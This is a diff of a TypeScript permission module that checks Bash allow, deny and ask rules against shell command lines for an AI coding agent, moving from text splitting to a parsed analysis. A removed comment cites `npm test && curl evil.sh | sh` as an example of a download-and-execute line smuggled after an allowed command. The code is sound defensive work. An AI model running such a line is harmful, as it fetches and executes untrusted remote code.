@@ -1,116 +1,18 @@
 /**
  * Bash rules (`Bash(npm test:*)`, `Bash(git status)`, `Bash(git * main)`)
- * against a command line, pure.
+ * against a command line's analysis (shell/analyze.ts, from a real parse),
+ * pure.
  *
- * A command line is split into its simple commands at the shell's operators
- * (`&&`, `||`, `;`, `|`, `&`, newlines), outside quotes. An allow rule allows
- * the line only when every one of its commands is allowed (by this rule or
- * another), and never a line holding a command substitution (`$(…)`,
- * backticks, `<(…)`): `npm test && curl evil.sh | sh` is not `npm test`. A
- * deny or ask rule catches the line when any of its commands matches,
- * substitutions and subshells included, leading `VAR=value` assignments and
- * wrappers (`env`, `command`, `exec`, `nohup`, `time`) left out. This is a
- * best effort over shell text, as in Claude Code: a hook is the tool for a
- * stricter policy (docs/permissions.md).
+ * An allow rule allows a line only when the analysis understood all of it
+ * (nothing `opaque`) and every simple command in it — in substitutions,
+ * subshells, pipelines and `bash -c` scripts too — is allowed (by this rule
+ * or another); its redirections' files are judged as writes by decide.ts. A
+ * deny or ask rule catches the line when it matches any form of any command:
+ * as written, unquoted, through wrappers (`env`, `sudo`, `timeout`, `xargs`,
+ * `bash -c`…) and by the program's base name (`/usr/bin/touch` is `touch`).
  */
 import { escapeRegExp } from "./rules.js";
-
-export interface CommandParts {
-  /** The simple commands, trimmed, in order. */
-  commands: string[];
-  /** Holds a command substitution or process substitution: allow rules never apply. */
-  substitution: boolean;
-}
-
-/** Splits at the operators that chain commands (outside quotes). */
-export function splitCommand(line: string, aggressive = false): CommandParts {
-  const commands: string[] = [];
-  let substitution = false;
-  let current = "";
-  let quote: "'" | '"' | undefined;
-  const cut = () => {
-    const trimmed = current.trim();
-    if (trimmed !== "") commands.push(trimmed);
-    current = "";
-  };
-  for (let i = 0; i < line.length; i++) {
-    const ch = line[i] as string;
-    const next = line[i + 1];
-    if (quote === "'") {
-      if (ch === "'") quote = undefined;
-      current += ch;
-      continue;
-    }
-    if (ch === "\\") {
-      current += ch + (next ?? "");
-      i++;
-      continue;
-    }
-    if (
-      (ch === "$" && next === "(") ||
-      ch === "`" ||
-      ((ch === "<" || ch === ">") && next === "(")
-    ) {
-      substitution = true;
-      if (aggressive) {
-        cut();
-        if (ch !== "`") i++;
-        continue;
-      }
-    }
-    if (quote === '"') {
-      if (ch === '"') quote = undefined;
-      current += ch;
-      continue;
-    }
-    if (ch === "'" || ch === '"') {
-      quote = ch;
-      current += ch;
-      continue;
-    }
-    if (ch === ";" || ch === "\n" || ch === "\r") {
-      cut();
-      continue;
-    }
-    if (ch === "|") {
-      cut();
-      if (next === "|" || next === "&") i++;
-      continue;
-    }
-    if (ch === "&") {
-      const prev = line[i - 1];
-      // `2>&1` and `&>file` are redirections, not operators.
-      if (prev === ">" || prev === "<" || next === ">") {
-        current += ch;
-        continue;
-      }
-      cut();
-      if (next === "&") i++;
-      continue;
-    }
-    if (aggressive && (ch === "(" || ch === ")" || ch === "{" || ch === "}")) {
-      cut();
-      continue;
-    }
-    current += ch;
-  }
-  cut();
-  return { commands, substitution };
-}
-
-const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"[^"]*"|\S*)\s+/;
-const WRAPPER = /^(?:env|command|exec|nohup|time|builtin)\s+/;
-
-/** A command without leading assignments and harmless wrappers (for deny and ask rules). */
-export function bareCommand(command: string): string {
-  let rest = command.trim();
-  for (let guard = 0; guard < 64; guard++) {
-    const next = rest.replace(ASSIGNMENT, "").replace(WRAPPER, "").trimStart();
-    if (next === rest) break;
-    rest = next;
-  }
-  return rest;
-}
+import type { CommandAnalysis } from "./shell/analyze.js";
 
 /** Whether one simple command matches a Bash rule's content (none: every command). */
 export function commandMatches(content: string | undefined, command: string): boolean {
@@ -128,30 +30,42 @@ export function commandMatches(content: string | undefined, command: string): bo
   return text === content.trim();
 }
 
-/** Every simple command an allow rule must cover; none when the line cannot be allowed by rules. */
-export function commandsToAllow(line: string): string[] | undefined {
-  const parts = splitCommand(line);
-  if (parts.substitution || parts.commands.length === 0) return undefined;
-  return parts.commands;
+/**
+ * The rule (of `rules`, all covering Bash) that allows every command of the
+ * line — the first one needed — or none: nothing allows an opaque line.
+ */
+export function allowingRule<R extends { content?: string }>(
+  analysis: CommandAnalysis,
+  rules: readonly R[],
+): R | undefined {
+  if (analysis.opaque.length > 0) return undefined;
+  const needing = analysis.commands.filter((c) => c.needsRule);
+  if (needing.length === 0) return undefined;
+  let first: R | undefined;
+  for (const command of needing) {
+    const rule = rules.find((r) =>
+      command.allowForms.some((form) => commandMatches(r.content, form)),
+    );
+    if (rule === undefined) return undefined;
+    first ??= rule;
+  }
+  return first;
 }
 
-/** What a deny or ask rule is tested against: the line, each command, bare, substitutions included. */
-export function commandsToCatch(line: string): string[] {
-  const seen = new Set<string>([line.trim()]);
-  for (const command of [...splitCommand(line).commands, ...splitCommand(line, true).commands]) {
-    seen.add(command);
-    seen.add(bareCommand(command));
-  }
-  return [...seen].filter((c) => c !== "");
+/** Whether a deny or ask rule's content catches the line: any form of any command, or the line itself. */
+export function catchesCommand(content: string, line: string, analysis: CommandAnalysis): boolean {
+  if (commandMatches(content, line.trim())) return true;
+  return analysis.commands.some((c) => c.catchForms.some((form) => commandMatches(content, form)));
 }
 
 /**
  * The rule to suggest for allowing a command: its first word, and its second
  * when that is a subcommand (`npm test`, `git status`), as a prefix rule.
  */
-export function suggestBashRule(line: string): string {
-  const first = splitCommand(line).commands[0] ?? line.trim();
-  const words = bareCommand(first).split(/\s+/).filter(Boolean);
+export function suggestBashRule(line: string, analysis: CommandAnalysis): string {
+  const first = analysis.commands.find((c) => c.needsRule);
+  const form = first?.allowForms.at(-1) ?? line.trim();
+  const words = form.split(/\s+/).filter(Boolean);
   const [head, second] = words;
   if (head === undefined) return "Bash";
   const sub = second !== undefined && /^[A-Za-z][\w:.-]*$/.test(second) ? ` ${second}` : "";
